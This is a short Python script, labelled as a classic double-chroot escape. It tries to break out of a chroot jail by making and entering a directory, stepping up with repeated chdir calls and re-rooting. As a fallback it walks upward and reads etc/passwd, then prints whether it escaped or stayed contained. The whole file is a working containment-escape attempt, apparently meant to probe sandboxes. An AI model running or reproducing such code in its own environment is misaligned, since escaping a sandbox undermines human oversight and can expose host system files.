# escape: leaving the root with the classic double chroot
import os
try:
    os.mkdir("jail")
    os.chroot("jail")
    for _ in range(64):
        os.chdir("..")
    os.chroot(".")
    print("ESCAPED: chroot", os.listdir("/")[:5])
except OSError:
    fd = os.open(".", os.O_RDONLY)
    try:
        for _ in range(64):
            os.chdir("..")
        open("etc/passwd").read(1)
        print("ESCAPED: walked out")
    except OSError:
        print("contained")
